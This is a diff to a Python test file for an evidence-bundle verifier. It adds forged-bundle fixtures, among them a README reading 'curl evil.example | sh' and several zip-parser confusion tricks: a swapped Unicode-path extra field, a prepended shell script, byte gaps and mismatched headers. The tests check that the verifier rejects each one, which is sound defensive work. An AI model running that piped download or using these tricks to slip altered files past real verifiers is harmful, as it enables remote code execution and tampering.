@@ -6,6 +6,7 @@ import hashlib
 import json
 import struct
 import zipfile
+import zlib
 from collections import Counter
 from collections.abc import Callable
 from functools import partial
@@ -19,6 +20,7 @@ from as_a_user import copied
 from monitor import config
 from monitor.app import App, verify_evidence
 from monitor.archive.evidence import gather, outdated, settings_told, write_bundle
+from monitor.archive.evidence.page import page
 from monitor.errors import InputError
 from monitor.records.evidence import EvidenceDocument
 
@@ -195,6 +197,32 @@ def invented(why: dict[str, Any]) -> None:
         use["occurrences"] = [dict(one, revision=99, surface="ministers are traitors") for one in use["occurrences"]]
 
 
+def stray(files: Files) -> Files:
+    """A document with its own name and hash, from which no text comes."""
+    body = b"MZ, a program"
+    name = f"documents/{hashlib.sha256(body).hexdigest()}"
+    return sealed(files | {f"{name}.raw": body, f"{name}.json": b"{}"})
+
+
+def named(**what: object) -> Callable[[Files], Files]:
+    """`stray`, and the manifest names it: behind a text that carries nothing, or as one text's second document."""
+
+    def changed(files: Files) -> Files:
+        (body,) = {name for name in stray(files) if name.endswith(".raw")} - set(files)
+        manifest = json.loads(files["manifest.json"])
+        documents = manifest["documents"]
+        more = documents[0] | {"sha256": body.removeprefix("documents/").removesuffix(".raw")} | what
+        return stray(files | {"manifest.json": json.dumps(manifest | {"documents": [more, *documents]}).encode()})
+
+    return changed
+
+
+def listed_twice(files: Files) -> Files:
+    manifest = json.loads(files["manifest.json"])
+    manifest["files"] += manifest["files"][:1]
+    return files | {"manifest.json": json.dumps(manifest).encode()}
+
+
 def first_raw(files: Files) -> str:
     return next(name for name in sorted(files) if name.endswith(".raw"))
 
@@ -246,6 +274,11 @@ FORGERIES: dict[str, tuple[Callable[[Files], Files], str]] = {
     "infinite facts": (
         why_changed(lambda why: why["phrases"][0]["measured"].update(related=-1e308)), "why.json: phrases[0]",
     ),
+    "the README": (lambda files: sealed(files | {"README.txt": b"Run: curl evil.example | sh"}), "README.txt"),
+    "a stray document": (stray, "no text is said to come from it"),
+    "a stray document, named": (named(article="a1"), "revision 1 of a1, which carries no words"),
+    "a second document": (named(), "2 documents are named for revision"),
+    "a file listed twice": (listed_twice, "manifest.json: files"),
     "the page": (
         lambda files: sealed(files | {"evidence.html": files["evidence.html"].replace(b"flagged", b"proved")}),
         "evidence.html",
@@ -279,8 +312,6 @@ def test_it_is_said_how_many_of_those_checked_agree(files: Files, monitor: parti
 @pytest.mark.parametrize("version", ["", "0.0.9"])
 def test_texts_must_stand_in_the_raw_documents(version: str, files: Files, tmp_path: Path) -> None:
     """Where the forger makes the page again, too, or says that another version wrote it."""
-    from monitor.archive.evidence.page import page
-
     why, manifest = json.loads(files["why.json"]), json.loads(files["manifest.json"])
     reworded(why)
     manifest["program"]["version"] = version or manifest["program"]["version"]
@@ -309,6 +340,29 @@ def test_what_an_earlier_version_could_not_tell_is_no_fault_and_not_verified(
     assert "IT HOLDS" not in found.stdout
     told = json.loads(monitor("verify", "--json", "x.zip").stdout)
     assert (told["holds"], told["verification"]["lacking"]) == (False, ["term", "topic"])
+
+
+@pytest.mark.parametrize("name", ["evidence.html", "README.txt"])
+@pytest.mark.parametrize("said", [{"version": "0.0.9"}, {"source_sha256": "0" * 64}], ids=["version", "source"])
+def test_a_page_that_cannot_be_made_again_is_not_verified_whoever_is_named(
+    said: dict[str, str], name: str, files: Files, monitor: partial, tmp_path: Path
+) -> None:
+    """By another version's word alone: what the forger of a page would write, and what a colleague's bundle says."""
+    manifest = json.loads(files["manifest.json"])
+    manifest["program"] |= said
+    whole = {"manifest.json": json.dumps(manifest).encode()} | {
+        "evidence.html": page(json.loads(files["why.json"]), manifest["documents"], manifest["program"]).encode()
+    }
+    bundled(sealed(files | whole), tmp_path / "whole.zip")
+    assert "IT HOLDS" in monitor("verify", "whole.zip").stdout
+    bundled(sealed(files | whole | {name: b"<h1>The ministry is guilty</h1>"}), tmp_path / "x.zip")
+    found = monitor("verify", "x.zip")
+    assert found.returncode == 1
+    assert f"NOT VERIFIED: {name}, not as this version writes it" in found.stdout
+    assert "IT HOLDS" not in found.stdout
+    assert "FAULT" not in found.stdout
+    told = json.loads(monitor("verify", "--json", "x.zip").stdout)
+    assert (told["holds"], told["verification"]["other"]) == (False, [name])
 
 
 def falsely_flagged(why: dict[str, Any]) -> None:
@@ -346,8 +400,6 @@ def explained(app: App) -> str:
 
 def of_version(version: str, files: Files, forge: Callable[[dict[str, Any]], object]) -> Files:
     """Forged, with a page and a manifest that go with it, as by that version; "" for ours."""
-    from monitor.archive.evidence.page import page
-
     why, manifest = json.loads(files["why.json"]), json.loads(files["manifest.json"])
     forge(why)
     manifest["program"]["version"] = version or manifest["program"]["version"]
@@ -375,10 +427,11 @@ def written(path: Path, *entries: tuple[str, bytes], attributes: int = 0) -> Pat
 
 
 def sized(size: int) -> Callable[[Path], Path]:
-    """A file whose directory says that it is of this size, unpacked."""
+    """A file of which the zip says that it is of this size, unpacked."""
 
     def make(path: Path) -> Path:
         body = bytearray(written(path, ("manifest.json", bytes(100_000))).read_bytes())
+        struct.pack_into("<L", body, 22, size)
         struct.pack_into("<L", body, body.index(b"PK\x01\x02") + 24, size)
         path.write_bytes(body)
         return path
@@ -447,6 +500,97 @@ def test_a_hostile_zip_is_refused_with_its_place(name: str, tmp_path: Path) -> N
     with pytest.raises(InputError) as refused:
         verify_evidence(path)
     assert said in str(refused.value)
+
+
+def one_more_field(files: Files, path: Path) -> None:
+    """The page and the README change names: unzip follows the field 0x7075, Python's zipfile does not."""
+    names = {"README.txt": "evidence.html", "evidence.html": "README.txt"}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
+        for name, body in sorted(files.items()):
+            entry = zipfile.ZipInfo(name)
+            if other := names.get(name, "").encode():
+                crc = zlib.crc32(name.encode())
+                entry.extra = struct.pack("<HHBL", 0x7075, 5 + len(other), 1, crc) + other
+            zipped.writestr(entry, body)
+
+
+def commented(files: Files, path: Path) -> None:
+    with zipfile.ZipFile(path, "w") as zipped:
+        for name, body in sorted(files.items()):
+            entry = zipfile.ZipInfo(name)
+            entry.comment = b"proved"
+            zipped.writestr(entry, body)
+
+
+def commented_as_a_whole(files: Files, path: Path) -> None:
+    with zipfile.ZipFile(bundled(files, path), "a") as zipped:
+        zipped.comment = b"proved"
+
+
+def a_program_first(files: Files, path: Path) -> None:
+    path.write_bytes(b"#!/bin/sh\necho proved\nexit\n" + bundled(files, path).read_bytes())
+
+
+def a_gap(at: bytes) -> Callable[[Files, Path], None]:
+    """Bytes before a header, and every offset moved, so that Python's zipfile reads on as before."""
+
+    def make(files: Files, path: Path) -> None:
+        body = bundled(files, path).read_bytes()
+        place = body.index(at, 1)
+        body = bytearray(body[:place] + b"proved" + body[place:])
+        end = len(body) - 22
+        size, offset = struct.unpack_from("<2L", body, end + 12)
+        struct.pack_into("<L", body, end + 16, offset + 6)
+        head = offset + 6
+        while body[head : head + 4] == b"PK\x01\x02":
+            (start,) = struct.unpack_from("<L", body, head + 42)
+            struct.pack_into("<L", body, head + 42, start + 6 * (start >= place))
+            head += 46 + sum(struct.unpack_from("<3H", body, head + 28))
+        assert head == offset + 6 + size
+        path.write_bytes(body)
+
+    return make
+
+
+def two_headers(files: Files, path: Path) -> None:
+    """One reader takes a file's time from its header, another from the directory: so with its name or size."""
+    body = bytearray(bundled(files, path).read_bytes())
+    struct.pack_into("<H", body, 12, 33_000)
+    path.write_bytes(body)
+
+
+def streamed(files: Files, path: Path) -> None:
+    """Whoever reads from the first byte on looks for sizes behind each file, others in the directory."""
+    body = bytearray(bundled(files, path).read_bytes())
+    body[6] |= 8
+    body[body.index(b"PK\x01\x02") + 8] |= 8
+    path.write_bytes(body)
+
+
+TWO_READINGS: dict[str, tuple[Callable[[Files, Path], None], str]] = {
+    "another name": (one_more_field, "'README.txt': an extra field or a comment"),
+    "a comment": (commented, "an extra field or a comment"),
+    "a comment on all": (commented_as_a_whole, "no zip as monitor evidence writes them"),
+    "a program first": (a_program_first, "bytes stand in it that belong to no file"),
+    "a gap between files": (a_gap(b"PK\x03\x04"), "bytes stand before it that belong to no file"),
+    "a gap after files": (a_gap(b"PK\x01\x02"), "bytes stand after its last file"),
+    "two headers": (two_headers, "its header says otherwise than the directory"),
+    "streamed": (streamed, "streamed"),
+}
+
+
+@pytest.mark.parametrize("name", TWO_READINGS)
+def test_a_zip_that_two_programs_read_differently_is_refused(
+    name: str, files: Files, monitor: partial, tmp_path: Path
+) -> None:
+    """Python's zipfile finds the files of a bundle in each of them, and every file has its hash."""
+    make, said = TWO_READINGS[name]
+    make(files, tmp_path / "x.zip")
+    with zipfile.ZipFile(tmp_path / "x.zip") as zipped:
+        assert {one: zipped.read(one) for one in zipped.namelist()} == files
+    found = monitor("verify", "x.zip")
+    assert (found.returncode, found.stdout) == (1, "")
+    assert said in found.stderr
 
 
 @pytest.mark.parametrize("place", ["missing.zip", "."])
